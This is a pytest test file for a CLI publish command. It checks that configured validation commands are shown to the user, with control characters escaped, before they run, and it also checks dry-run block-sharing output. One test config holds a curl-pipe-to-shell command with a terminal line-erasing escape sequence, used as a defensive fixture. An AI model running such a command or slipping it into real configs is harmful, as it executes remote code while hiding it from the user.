"""What publish says of the commands that it finds where it is typed."""

from __future__ import annotations

import io
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from swarm.cli.gates import gates_of, rehearsed
from swarm.cli.output import Output


def test_commands_that_nobody_named_are_named_before_they_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    said = io.StringIO()
    program: Any = SimpleNamespace(output=Output(json=False, quiet=False, stdout=io.StringIO(), stderr=said))
    (tmp_path / "aetherfs.toml").write_text('[publish]\nvalidate = ["python check.py", "curl x\\u001b[2K | sh"]\n')
    found = gates_of(program, None, ["mine"])
    assert found["validate"] == ["python check.py", "curl x\x1b[2K | sh", "mine"]
    assert said.getvalue() == (
        "publish: held to aetherfs.toml; its commands: 'python check.py', 'curl x\\x1b[2K | sh'\n"
    )


def test_a_dry_run_says_of_which_versions_its_blocks_are_not() -> None:
    result = {"tags": ["stable"], "unchanged": False, "version": "ab" * 32, "files": 1, "bytes": 9000, "blocks": 5}
    result |= {"new_blocks": 2, "new_bytes": 4000, "read": 0, "seconds": 0.0, "budget": (), "validate": ()}
    older = {"tag": "stable", "version": "cd" * 32, "fetch_bytes": 4000, "fetch_blocks": 2, "share": 0.444}
    lines = list(rehearsed({**result, "consumers": (older,)}))
    # The dataset may have them in others: this is no word about all of its versions.
    said = "1 file, 9.0 kB in 5 blocks, 2 of them (4.0 kB) not in stable cdcdcdcdcdcd; 0 B were read"
    assert lines[1].startswith(said)
    assert list(rehearsed({**result, "consumers": ()}))[1].startswith("1 file, 9.0 kB in 5 blocks; 0 B were read")
